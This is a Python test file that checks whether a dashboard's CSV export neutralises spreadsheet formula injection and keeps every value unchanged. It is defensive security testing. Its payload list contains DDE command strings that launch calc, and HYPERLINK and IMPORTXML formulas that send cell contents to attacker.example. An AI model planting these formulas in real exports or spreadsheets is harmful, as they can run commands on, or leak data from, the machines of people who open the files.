"""CSV exports: hostile text in every text column comes out inert, everything else round-trips exactly."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import duckdb
import pytest

from dashboards.export import export_published_tables, neutralise_cell
from fixtures.serving_fixture import HOSTILE, HOSTILE_IMG, make_serving_fixture

PIPELINE_FIXTURES = {'hostile_db'}  # they run the real pipeline: tests using them are in the slow tier

# OWASP CSV-injection payloads and shapes that break naive CSV writers.
INJECTIONS = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Click\")",
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=IMPORTXML(CONCAT(\"http://attacker.example/\", A1), \"//a\")",
    "-",
    "@",
    "=",
    "label, with comma",
    "label \"with\" quotes",
    "label\nwith\nline breaks",
    "label\r\nwith CRLF",
    "'already quoted",
    HOSTILE,
    HOSTILE_IMG,
    "Saint-Louis = region",  # '=' not first: left alone
]


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The serving fixture with an injection string in every text column, cycling through rows."""
    path = tmp_path_factory.mktemp("export") / "serving.duckdb"
    make_serving_fixture(path, seed=3)
    con = duckdb.connect(str(path))
    text_columns = con.execute(
        "SELECT table_name, column_name FROM information_schema.columns WHERE data_type = 'VARCHAR'").fetchall()
    for table, column in text_columns:
        con.execute(f'ALTER TABLE "{table}" ADD COLUMN lantern_n BIGINT')
        con.execute(f'UPDATE "{table}" SET lantern_n = rowid')
        con.execute(f'UPDATE "{table}" SET "{column}" = list_extract($payloads, (lantern_n % {len(INJECTIONS)})::BIGINT + 1)',
                    {"payloads": INJECTIONS})
        con.execute(f'ALTER TABLE "{table}" DROP COLUMN lantern_n')
    con.close()
    return path


def test_every_text_cell_is_inert_and_every_value_round_trips(hostile_db: Path, tmp_path: Path) -> None:
    paths = export_published_tables(hostile_db, tmp_path / "csv")
    con = duckdb.connect(str(hostile_db), read_only=True)
    tables = sorted(t for (t,) in con.execute("SELECT table_name FROM information_schema.tables").fetchall())
    assert [p.stem for p in paths] == tables
    payloads_seen = set()
    for path in paths:
        with open(path, encoding="utf-8-sig", newline="") as handle:
            read = list(csv.reader(handle))
        cursor = con.execute(f'SELECT * FROM "{path.stem}"')
        header = [d[0] for d in cursor.description]
        rows = cursor.fetchall()
        assert read[0] == header
        assert len(read) == len(rows) + 1, path.name  # no payload split or merged rows
        for got, want in zip(read[1:], rows):
            assert len(got) == len(header)
            for cell, value in zip(got, want):
                if isinstance(value, str):
                    payloads_seen.add(value)
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (path.name, cell)
                    assert cell == ("'" + value if value.startswith(("=", "+", "-", "@", "\t", "\r")) else value)
                else:
                    assert cell == neutralise_cell(value)
    assert set(INJECTIONS) <= payloads_seen, "every payload was exported at least once"


def test_numbers_stay_numbers_and_null_is_empty() -> None:
    assert neutralise_cell(-3.5) == "-3.5"  # a negative change is data, not a formula
    assert neutralise_cell(-12) == "-12"
    assert neutralise_cell(None) == ""
    assert neutralise_cell(True) == "true"
    assert neutralise_cell("-12") == "'-12"  # text that looks like a number is still text


@pytest.mark.pipeline
def test_export_of_a_real_serving_database_is_complete(tmp_path: Path) -> None:
    source = tmp_path / "serving.duckdb"
    make_serving_fixture(source, seed=1)
    copy = tmp_path / "copy.duckdb"
    shutil.copy(source, copy)
    paths = export_published_tables(copy, tmp_path / "out")
    counts = {p.stem: sum(1 for _ in csv.reader(open(p, encoding="utf-8-sig", newline=""))) - 1 for p in paths}
    con = duckdb.connect(str(copy), read_only=True)
    for table, n in counts.items():
        assert con.execute(f'SELECT count(*) FROM "{table}"').fetchone()[0] == n
    assert not list((tmp_path / "out").glob("*.partial"))
